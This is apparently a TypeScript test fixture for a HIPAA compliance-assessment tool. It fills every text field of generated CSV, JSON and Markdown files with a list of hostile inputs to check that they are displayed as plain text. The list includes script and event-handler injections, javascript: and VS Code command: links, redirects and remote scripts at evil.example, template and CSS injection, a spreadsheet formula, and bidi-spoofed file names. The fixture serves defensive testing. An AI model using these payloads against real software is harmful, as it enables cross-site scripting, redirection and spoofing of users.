// An assessment written by someone who means harm: in each text that is ever shown stand attacks on whoever shows it.

/** Elements that nothing of ours makes. */
export const HOSTILE_ELEMENTS =
  'hostile-element, iframe, object, embed, img, video, base, marquee, form, math, template, foreignObject';

const SCRIPT = 'globalThis.hacked=1';
const [RIGHT_TO_LEFT, LEFT_TO_RIGHT_ISOLATE] = ['\u202e', '\u2066'];

/** Each would do something where text is taken for more than text. */
const ATTACKS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `"><svg onload=${SCRIPT}><foreignObject>`,
  `' onmouseover='${SCRIPT}' autofocus onfocus='${SCRIPT}' x='`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<hostile-element onclick=${SCRIPT}>here</hostile-element>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<a href="javascript:${SCRIPT}">a</a> <a href="command:workbench.action.closeAllEditors">b</a>`,
  `[c](javascript:${SCRIPT}) [d](command:workbench.action.closeAllEditors) ![e](https://evil.example/e.png)`,
  `<https://evil.example> https://evil.example/plain $(bug) $(sync~spin)`,
  `</style><style>*{display:none!important}</style>`,
  `width:expression(${SCRIPT});background:url(https://evil.example/f.png)}*{display:none}`,
  `</title></textarea></script></noscript></main></body>-->]]><script>${SCRIPT}</script>`,
  `{{constructor.constructor('${SCRIPT}')()}} \${${SCRIPT}} <%= ${SCRIPT} %> {0} {1} %s %c`,
  `${RIGHT_TO_LEFT}gpj.exe${LEFT_TO_RIGHT_ISOLATE} \u200bzero\u200dwidth\ufeff\u2060 \u0007\u001b[31m\u2028`,
  `=HYPERLINK("https://evil.example","g") __proto__ constructor &lt;script&gt; &#60;img&#62; %3Cscript%3E`,
];

/** All of them in one text, that says where it stood. */
export function hostile(field: string): string {
  return `${field}: ${ATTACKS.join(' ')}`;
}

/** What `hostile` begins with: it is seen wherever the text is, even where it is cut. */
export const TRACE = ATTACKS[0] ?? '';

/** A megabyte of it. */
export const LONG = `${hostile('long')} ${'long and longer '.repeat(65_536)}`;

/** What a file can be called that means harm; a name has no slash, and on Windows none of some other characters. */
const USUAL_NAME = `<img src=x onerror=${SCRIPT}> [n](command:x) \${0} $(bug) ${RIGHT_TO_LEFT}dm`;
const WINDOWS_NAME = `[n](javascript;x) \${0} $(bug) ${RIGHT_TO_LEFT}dm`;
const NAME = process.platform === 'win32' ? WINDOWS_NAME : USUAL_NAME;

const [SHARED, FULL, NOT_APPLICABLE, COMPLETE] = [
  '1143.01c1System.123',
  '1148.01c2System.78',
  '1151.01c3System.1',
  '1109.01b1System.479',
] as const;

/** What the page reads as a word of its own, and no person has written. */
const NO_TEXTS: ReadonlySet<string> = new Set(['type', 'counted', 'status', 'responsibility', 'open', 'due']);

/**
 * A message with attacks in each of its texts, the same text becoming the same everywhere, so that what belongs together still
 * does. Values of statuses and responsibilities stay: they come from no file.
 */
export function withAttacks<T>(message: T, key = ''): T {
  if (typeof message === 'string') return (NO_TEXTS.has(key) || message === '' ? message : hostile(message)) as T;
  if (Array.isArray(message)) return message.map((item: unknown) => withAttacks(item, key)) as T;
  if (typeof message !== 'object' || message === null) return message;
  const isPlain = key === 'segments' || key === 'status' || key === 'responsibility' || key === 'open';
  const entries = Object.entries(message).map(([name, value]: [string, unknown]) => [
    name,
    isPlain && name === 'value' ? value : withAttacks(value, name),
  ]);
  return Object.fromEntries(entries) as T;
}

/**
 * The files by their paths. Ids and states are as they should be, so that everything is read and shown.
 *
 * @param hasList with a requirement list, else in the simple grain
 */
export function hostileFiles({ hasList = true } = {}): Readonly<Record<string, string>> {
  return {
    'inheritance-scope.json': JSON.stringify(project(hasList)),
    [`${NAME}.csv`]: csv([
      ['BUID', 'Inheritability', 'Customer Responsibility', 'Azure Implementation', hostile('column')],
      [SHARED, 'Partial', hostile('customer'), hostile('provider'), hostile('other')],
      [FULL, 'Full', hostile('customer'), LONG, ''],
      [NOT_APPLICABLE, 'None', hostile('customer'), hostile('provider'), ''],
      [COMPLETE, 'None', LONG, hostile('provider'), ''],
      ['01.d', hostile('value'), hostile('customer'), hostile('provider'), ''],
      [hostile('id'), 'Full', '', '', ''],
    ]),
    'requirements.csv': csv([
      ['requirement', 'cvid', 'domain', 'applicability', 'rationale', 'owner', 'due', 'note'],
      [
        SHARED,
        hostile('cvid'),
        '11',
        'in-scope',
        hostile('rationale'),
        hostile('owner'),
        '2027-04-01',
        hostile('note'),
      ],
      [FULL, '', hostile('domain'), 'in-scope', '', '__proto__', hostile('due'), ''],
      [NOT_APPLICABLE, '', '11', 'n/a', hostile('rationale'), 'constructor', '', ''],
      [COMPLETE, '', '11', hostile('applicability'), '', LONG, '', ''],
    ]),
    'evidence.csv': csv([
      ['requirement', 'maturity', 'title', 'location', 'owner', 'state', 'captured_on', 'note', 'locator'],
      [
        SHARED,
        'implemented',
        hostile('title'),
        `docs/${NAME}.md`,
        hostile('owner'),
        '',
        '',
        hostile('note'),
        hostile('locator'),
      ],
      [SHARED, 'implemented', hostile('title'), `javascript:${SCRIPT}`, '', '', '', '', ''],
      [SHARED, 'implemented', hostile('title'), 'command:workbench.action.closeAllEditors', '', '', '', '', ''],
      [COMPLETE, 'implemented', LONG, `https://x.y/?q=<img/src=x/onerror=${SCRIPT}>`, '', '', '2027-03-01', '', ''],
      [FULL, hostile('maturity'), hostile('title'), hostile('location'), '', hostile('state'), hostile('date'), '', ''],
      ['01.c', 'implemented', hostile('title'), 'https://x.y/z', hostile('owner'), '', '', '', ''],
      [hostile('id'), 'implemented', '', 'https://x.y/z', '', '', '', '', ''],
    ]),
    'requests.csv': csv([
      [
        'request_id',
        'requirement',
        'provider',
        'component',
        'weight',
        'partial',
        'state',
        'justification',
        'submitted',
        'decision_note',
        'owner',
        'note',
      ],
      [
        hostile('request'),
        SHARED,
        hostile('provider'),
        hostile('component'),
        '60',
        'yes',
        'submitted',
        hostile('justification'),
        '2027-03-14',
        hostile('decision'),
        hostile('owner'),
        hostile('note'),
      ],
      ['R2', FULL, LONG, '', '100', 'no', 'rejected', LONG, '2027-03-14', LONG, '', ''],
      [
        'R3',
        hostile('requirement'),
        '',
        '',
        hostile('weight'),
        hostile('partial'),
        hostile('state'),
        '',
        hostile('submitted'),
        '',
        '',
        '',
      ],
    ]),
    'gaps.csv': csv([
      [
        'gap_id',
        'requirement',
        'maturity',
        'description',
        'corrective_action',
        'point_of_contact',
        'status',
        'fixed_on',
        'note',
      ],
      [
        hostile('gap'),
        SHARED,
        'implemented',
        hostile('description'),
        hostile('action'),
        hostile('contact'),
        'closed',
        '2027-03-01',
        hostile('note'),
      ],
      ['G2', COMPLETE, 'implemented', LONG, '', '', hostile('status'), hostile('fixed'), ''],
    ]),
    'services.csv': csv([
      ['service', 'family', 'azure', 'azureGovernment'],
      [hostile('service'), hostile('family'), 'yes', hostile('yes')],
    ]),
    'policy.json': JSON.stringify([
      {
        resourceId: `/subscriptions/s/resourceGroups/g/providers/p/${hostile('resource')}`,
        policyDefinitionId: `/providers/Microsoft.Authorization/policyDefinitions/${hostile('policy')}`,
        policyDefinitionGroupNames: [`hipaa-${SHARED}-01.c`, hostile('group')],
        complianceState: 'NonCompliant',
        timestamp: '2027-03-20T08:00:00Z',
      },
    ]),
    [`docs/${NAME}.md`]: document(),
    'docs/plain.md': document(),
    'docs/long.md': `01.c ${LONG} 01.b\n`,
  };
}

function project(hasList: boolean): object {
  return {
    name: hostile('project'),
    assessment: { type: 'i1', submissionDate: '2027-05-14', csfVersion: hostile('version') },
    matrix: { path: `${NAME}.csv`, provider: hostile('provider'), version: hostile('matrix version') },
    documents: ['docs/*.md'],
    ...(hasList && { requirements: 'requirements.csv' }),
    evidence: 'evidence.csv',
    requests: 'requests.csv',
    gaps: 'gaps.csv',
    azure: {
      services: [hostile('service in use'), 'Azure Key Vault'],
      servicesInScope: 'services.csv',
      policyStates: 'policy.json',
      certification: { letter: hostile('letter'), expires: '2027-04-01' },
    },
    carveOuts: [
      {
        party: hostile('party'),
        describedIn: hostile('description'),
        rationale: hostile('rationale'),
        requirements: [FULL],
      },
    ],
    [hostile('key')]: hostile('value'),
  };
}

/** Ids with attacks around them, in each form that is read. */
function document(): string {
  return [
    `# ${hostile('heading')} 01.c`,
    '',
    `${hostile('before')} 01.c ${hostile('after')}`,
    `- 01.b ${hostile('item')} 01.d`,
    `<b onclick="${SCRIPT}">01.c</b> \`01.c\` [01.c](javascript:${SCRIPT}) 1143.01c1System.123`,
    `99.z ${hostile('unknown')} 01.\u200bc ${RIGHT_TO_LEFT}01.c`,
    '',
    '## 01.c',
    '',
    `Evidence (implemented): [${hostile('link')}](acp.md) Responsibility: ${hostile('responsibility')}`,
    '',
    '| Control | Title | Evidence (implemented) | Responsibility |',
    '| --- | --- | --- | --- |',
    `| 01.c | ${cell('title')} | [${cell('link')}](javascript:${SCRIPT}) | ${cell('responsibility')} |`,
    '',
  ].join('\n');
}

/** In a table, where a line break or a bar would end the cell. */
function cell(field: string): string {
  return hostile(field).replaceAll('|', '\\|').replaceAll('\u2028', '');
}

function csv(rows: readonly (readonly string[])[]): string {
  const line = (cells: readonly string[]): string => cells.map((text) => `"${text.replaceAll('"', '""')}"`).join(',');
  return `${rows.map(line).join('\n')}\n`;
}
